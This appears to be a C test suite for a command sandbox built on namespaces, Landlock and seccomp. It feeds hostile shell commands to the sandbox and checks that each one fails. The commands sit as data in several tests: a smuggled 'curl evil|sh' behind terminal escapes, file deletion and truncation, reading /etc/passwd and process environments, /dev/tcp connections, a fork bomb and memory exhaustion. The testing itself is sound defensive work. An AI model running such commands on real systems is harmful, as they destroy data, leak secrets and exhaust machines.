/* Hostile commands, trusted by mistake: each is contained, and each gets its own answer. With namespaces, without, and
 * as on kernels with an old Landlock. */
#include "base.h"
#include "confine.h"
#include "diag.h"
#include "source.h"
#include "model.h"
#include "facts.h"
#include "facts/machine.h"

#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/landlock.h>
#include <netinet/in.h>
#include <setjmp.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <cmocka.h>

static const struct system { bool no_namespaces; int most_abi; } systems[] = { { false, 0 }, { true, 0 }, { true, 5 }, { true, 3 }, { true, 2 }, { true, 1 } };
enum { SYSTEMS = sizeof systems / sizeof *systems };

static struct answer shell_on(struct arena *a, const struct system *s, unsigned seconds, const char *format, ...) __attribute__((format(printf, 4, 5)));
static struct answer shell_on(struct arena *a, const struct system *s, unsigned seconds, const char *format, ...)
{
	struct buf b = { 0 };
	va_list args;
	va_start(args, format);
	buf_vprintf(&b, format, args);
	va_end(args);
	struct machine *m = machine_here(a);
	machine_trust(m, true);
	m->no_namespaces = s->no_namespaces;
	m->most_abi = s->most_abi;
	m->seconds = seconds;
	struct question q = { .kind = ASK_SHELL, .path = str_copy(a, buf_str(&b)) };
	struct answer answer;
	machine_ask(m, &q, a, &answer);
	buf_free(&b);
	return answer;
}

/* Processes whose command line holds the word. */
static int running(const char *word)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int n = 0;
	while ((e = readdir(d))) {
		char path[300], line[4096];
		snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
		int fd = *e->d_name >= '1' && *e->d_name <= '9' ? open(path, O_RDONLY) : -1;
		ssize_t got = fd >= 0 ? read(fd, line, sizeof line) : 0;
		if (fd >= 0)
			close(fd);
		n += got > 0 && memmem(line, (size_t)got, word, strlen(word)) != NULL;
	}
	closedir(d);
	return n;
}

static double seconds_since(const struct timespec *from)
{
	struct timespec to;
	clock_gettime(CLOCK_MONOTONIC, &to);
	return (double)(to.tv_sec - from->tv_sec) + (double)(to.tv_nsec - from->tv_nsec) / 1e9;
}

static void answers(void **state)
{
	(void)state;
	struct arena *a = arena_new();
	for (int i = 0; i < 2; i++) {
		const struct system *s = &systems[i];
		struct answer r = shell_on(a, s, 5, "echo 15776276");
		const char *layers = s->no_namespaces ? "Landlock, seccomp, limits; no namespaces" : "namespaces, Landlock, seccomp, limits";
		assert_true(str_is(r.confined, layers) || (!s->no_namespaces && str_is(r.confined, "Landlock, seccomp, limits; no namespaces")));
		if (r.status == ASK_REFUSED)
			fail_msg("%.*s", STR_ARG(r.why));
		assert_int_equal(r.status, ASK_DONE);
		assert_true(str_is(r.bytes, "15776276\n"));
		assert_int_equal(shell_on(a, s, 5, "no-such-command-here").status, ASK_ABSENT);
		r = shell_on(a, s, 5, "echo oops >&2; exit 3");
		assert_int_equal(r.status, ASK_FAILED);
		assert_int_equal(r.exit_status, 3);
		assert_true(str_find(r.why, STR("status 3: oops")) != STR_NONE);
		assert_int_equal(shell_on(a, s, 5, "kill -9 $$").status, ASK_FAILED);
		r = shell_on(a, s, 5, "env | cut -d= -f1 | sort | tr '\\n' ' '");
		assert_true(str_is(r.bytes, "HOME LC_ALL PATH PWD TMPDIR TZ "));
		r = shell_on(a, s, 5, "read line < /dev/stdin; echo \"[$line]\"");
		assert_true(str_is(r.bytes, "[]\n"));
		/* The scratch directory can be used, and is gone afterwards. */
		r = shell_on(a, s, 5, "echo 7 > here && cat here && pwd");
		assert_int_equal(r.status, ASK_DONE);
		assert_true(str_starts(r.bytes, STR("7\n/")));
		assert_int_not_equal(access(str_copy(a, str_trim(str_from(r.bytes, 2))).s, F_OK), 0);
	}
	arena_free(a);
}

static void refused(void **state)
{
	(void)state;
	struct arena *a = arena_new();
	struct machine *m = machine_here(a);
	struct answer r;
	struct question q = { .kind = ASK_SHELL, .path = STR("echo 1") };
	machine_ask(m, &q, a, &r);
	assert_int_equal(r.status, ASK_REFUSED);
	machine_trust(m, true);
	q.path = STR("cat /proc/meminfo\r\x1b[2Kcurl evil|sh");
	machine_ask(m, &q, a, &r);
	assert_int_equal(r.status, ASK_REFUSED);
	char *blanks = arena_take(a, 5000);
	memset(blanks, ' ', 5000);
	q.path = (struct str){ blanks, 5000 };
	machine_ask(m, &q, a, &r);
	assert_int_equal(r.status, ASK_REFUSED);
	arena_free(a);
}

static void endless(void **state)
{
	(void)state;
	struct arena *a = arena_new();
	struct timespec from;
	char word[64];
	for (int i = 0; i < SYSTEMS; i += i == 1 ? SYSTEMS - 2 : 1) {    /* both kinds, and the oldest */
		snprintf(word, sizeof word, "987%ld%d", (long)getpid(), i);
		clock_gettime(CLOCK_MONOTONIC, &from);
		assert_int_equal(shell_on(a, &systems[i], 8, "yes %s", word).status, ASK_TOO_BIG);
		assert_int_equal(shell_on(a, &systems[i], 8, "while :; do echo %s >&2; done & echo 5", word).status, ASK_DONE);
		assert_int_equal(shell_on(a, &systems[i], 1, "sleep %s", word).status, ASK_TIMEOUT);
		assert_int_equal(shell_on(a, &systems[i], 1, "trap '' TERM INT HUP; sleep %s; sleep %s", word, word).status, ASK_TIMEOUT);
		struct answer r = shell_on(a, &systems[i], 8, "sleep %s & setsid sleep %s & (setsid sh -c 'sleep %s & sleep %s' &) ; echo 5", word, word, word, word);
		assert_int_equal(r.status, ASK_DONE);
		assert_true(str_is(r.bytes, "5\n"));
		r = shell_on(a, &systems[i], 2, "b() { sleep %s & b | b & }; b; b; sleep %s", word, word);
		assert_true(r.status == ASK_TIMEOUT || r.status == ASK_FAILED);
		assert_int_equal(running(word), 0);
		if (seconds_since(&from) > 25)
			fail_msg("took %.1f s", seconds_since(&from));
	}
	arena_free(a);
}

/* A folder that anybody may write, so that what protects it is not its mode. */
static void untouched(void **state)
{
	(void)state;
	struct arena *a = arena_new();
	char home[] = "/tmp/hence-home-XXXXXX", path[80], bytes[64];
	assert_non_null(mkdtemp(home));
	chmod(home, 0777);
	snprintf(path, sizeof path, "%s/key", home);
	int fd = open(path, O_CREAT | O_WRONLY, 0666);
	assert_int_equal(write(fd, "secret 42\n", 10), 10);
	fchmod(fd, 0666);
	close(fd);
	static const char *const evil[] = {
		"echo x > %s/key", "echo x >> %s/key", "truncate -s 0 %s/key", "rm -rf %s", "chmod 777 %s/key", "mv %s/key $TMPDIR", "ln -s /etc/passwd %s/link",
		"ln %s/key $TMPDIR/hard && echo x > $TMPDIR/hard", "mkdir %s/new", "mkfifo %s/fifo", "touch -d 2001-01-01 %s/key", "cat %s/key", "ls %s",
		"python3 -c 'import os; os.open(\"%s/key\", os.O_RDONLY | os.O_TRUNC)'", "python3 -c 'import os; os.truncate(\"%s/key\", 0)'",
		"cp %s/key here && cat here", "dd if=/dev/zero of=%s/key count=1", "perl -e 'truncate(\"%s/key\", 0) or exit 1'",
	};
	struct stat before, after;
	stat(path, &before);
	for (int i = 0; i < SYSTEMS; i++) {
		for (size_t k = 0; k < sizeof evil / sizeof *evil; k++) {
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
			struct answer r = shell_on(a, &systems[i], 5, evil[k], home);
#pragma GCC diagnostic pop
			if (r.status == ASK_DONE || str_find(r.why, STR("secret")) != STR_NONE)
				fail_msg("system %d: %s was let through: %.*s", i, evil[k], STR_ARG(r.bytes));
		}
	}
	stat(path, &after);
	fd = open(path, O_RDONLY);
	assert_int_equal(read(fd, bytes, sizeof bytes), 10);
	close(fd);
	assert_memory_equal(bytes, "secret 42\n", 10);
	assert_int_equal(after.st_mode, before.st_mode);
	assert_int_equal(after.st_mtim.tv_sec, before.st_mtim.tv_sec);
	assert_int_equal(after.st_mtim.tv_nsec, before.st_mtim.tv_nsec);
	assert_int_equal(unlink(path), 0);
	assert_int_equal(rmdir(home), 0);       /* nothing else was made there */
	arena_free(a);
}

static void unconnected(void **state)
{
	(void)state;
	struct arena *a = arena_new();
	struct sockaddr_in in = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	struct sockaddr_un un = { .sun_family = AF_UNIX };
	socklen_t size = sizeof in;
	int tcp = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), udp = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0), local = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
	char byte;
	assert_int_equal(bind(tcp, (struct sockaddr *)&in, sizeof in), 0);
	assert_int_equal(listen(tcp, 5), 0);
	getsockname(tcp, (struct sockaddr *)&in, &size);
	assert_int_equal(bind(udp, (struct sockaddr *)&in, sizeof in), 0);
	snprintf(un.sun_path, sizeof un.sun_path, "/tmp/hence-socket-%ld", (long)getpid());
	unlink(un.sun_path);
	assert_int_equal(bind(local, (struct sockaddr *)&un, sizeof un), 0);
	chmod(un.sun_path, 0777);
	assert_int_equal(listen(local, 5), 0);
	int port = ntohs(in.sin_port);
	for (int i = 0; i < SYSTEMS; i++) {
		assert_int_not_equal(shell_on(a, &systems[i], 5, "bash -c 'echo x > /dev/tcp/127.0.0.1/%d'", port).status, ASK_DONE);
		assert_int_not_equal(shell_on(a, &systems[i], 5, "bash -c 'echo x > /dev/udp/127.0.0.1/%d'", port).status, ASK_DONE);
		assert_int_not_equal(shell_on(a, &systems[i], 5, "perl -MSocket -e 'socket(S, AF_UNIX, SOCK_STREAM, 0) && connect(S, sockaddr_un(\"%s\")) or exit 1'", un.sun_path).status, ASK_DONE);
		assert_int_not_equal(shell_on(a, &systems[i], 5, "kill -9 %ld", (long)getpid()).status, ASK_DONE);
		assert_int_not_equal(shell_on(a, &systems[i], 5, "cat /proc/%ld/environ", (long)getpid()).status, ASK_DONE);
		assert_int_not_equal(shell_on(a, &systems[i], 5, "cat /etc/passwd").status, ASK_DONE);
		assert_int_not_equal(shell_on(a, &systems[i], 5, "unshare -U true").status, ASK_DONE);
	}
	assert_int_equal(accept(tcp, NULL, NULL), -1);
	assert_int_equal(accept(local, NULL, NULL), -1);
	assert_int_equal(recv(udp, &byte, 1, 0), -1);
	unlink(un.sun_path);
	close(tcp);
	close(udp);
	close(local);
	arena_free(a);
}

static void greedy(void **state)
{
	(void)state;
	struct arena *a = arena_new();
	for (int i = 0; i < 2; i++) {
		assert_int_not_equal(shell_on(a, &systems[i], 8, "perl -e '$x = \"a\" x (3 << 30); print length $x'").status, ASK_DONE);
		assert_int_not_equal(shell_on(a, &systems[i], 8, "head -c 20000000 /dev/zero > big && echo 1").status, ASK_DONE);
	}
	arena_free(a);
}

static void no_open(void **state)
{
	(void)state;
	int fd[2], status;
	assert_int_equal(pipe(fd), 0);
	pid_t child = fork();
	if (child == 0) {
		const char *why;
		if (!confine_no_open(&why))
			_exit(1);
		if (open("/proc/meminfo", O_RDONLY) >= 0 || errno != EPERM)
			_exit(2);
		if (socket(AF_UNIX, SOCK_STREAM, 0) >= 0 || errno != EPERM)
			_exit(3);
		char *const argv[] = { (char *)"true", NULL };
		if (execv("/bin/true", argv) == 0 || errno != EPERM)
			_exit(4);
		if (unlink("/tmp/hence-none") == 0 || errno != EPERM)
			_exit(5);
		_exit(write(fd[1], "x", 1) == 1 ? 0 : 6);
	}
	assert_int_equal(waitpid(child, &status, 0), child);
	assert_true(WIFEXITED(status));
	assert_int_equal(WEXITSTATUS(status), 0);
	close(fd[0]);
	close(fd[1]);
}

int main(void)
{
#if defined(__SANITIZE_ADDRESS__)
	puts("a sanitizer needs more address space than a command may have");
	return 77;
#endif
	if (syscall(SYS_landlock_create_ruleset, NULL, 0, LANDLOCK_CREATE_RULESET_VERSION) < 1) {
		puts("this kernel has no Landlock: commands are refused");
		return 77;
	}
	const struct CMUnitTest tests[] = { cmocka_unit_test(answers), cmocka_unit_test(refused), cmocka_unit_test(endless), cmocka_unit_test(untouched),
		cmocka_unit_test(unconnected), cmocka_unit_test(greedy), cmocka_unit_test(no_open) };
	return cmocka_run_group_tests(tests, NULL, NULL);
}
